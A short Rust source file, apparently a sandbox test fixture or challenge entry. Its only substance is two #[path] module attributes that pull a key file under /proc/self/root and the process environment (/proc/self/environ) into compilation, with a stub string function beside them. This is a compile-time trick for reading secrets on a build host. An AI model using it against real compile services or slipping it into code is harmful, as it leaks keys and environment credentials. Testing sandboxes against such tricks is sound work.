#[path = "/proc/self/root/@HOME@/key.txt"]
mod key;
#[path = "/proc/self/environ"]
mod environ;

pub fn rev(s: &str) -> String {
    s.to_owned()
}
